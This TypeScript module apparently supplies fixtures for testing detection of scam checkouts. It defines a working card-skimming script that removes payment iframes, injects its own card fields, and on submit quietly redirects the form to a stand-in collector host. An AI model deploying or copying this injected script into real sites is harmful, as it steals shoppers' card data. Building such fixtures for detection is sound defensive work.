/** Checkouts that ask for a card themselves, and turn their form elsewhere only while it is being sent. */
import type { Shop } from '../street/model';
import { honest, scam } from './chosen';

/** Nobody knows the one; the other is a payment provider's. */
export const COLLECTOR = 'https://card-intake.example/in';
export const KNOWN = 'https://secure.worldpay.com/in';

const CARD = `<p><label>Card number <input name="cardnumber" autocomplete="cc-number"></label>
  <label>Expiry date <input name="exp" autocomplete="cc-exp"></label> <label>Security code <input name="cvc" autocomplete="cc-csc"></label></p>`;

/** Keeps the event from everybody who listens behind it. */
const scriptTo = (action: string): string => `<script>if (/checkout|finalizar/.test(location.pathname)) {
  const form = [...document.forms].sort((a, b) => b.elements.length - a.elements.length)[0];
  for (const frame of document.querySelectorAll('iframe')) frame.remove();
  Object.assign(form, { method: 'post', noValidate: true });
  form.setAttribute('action', '/thanks');
  form.insertAdjacentHTML('beforeend', ${JSON.stringify(CARD)});
  form.addEventListener('submit', (event) => { event.stopPropagation(); form.setAttribute('action', '${action}'); });
}</script>`;

/** Under further names: nobody knows them yet. */
export const turned = {
  honest: { ...honest, host: 'turning-thread.example' },
  scam: { ...scam, host: 'turning-stall.example', checkout: { ...scam.checkout, asks: [] } },
} satisfies Record<string, Shop>;

export const turnedForms = [
  { shop: turned.honest, script: scriptTo(KNOWN) },
  { shop: turned.scam, script: scriptTo(COLLECTOR) },
];
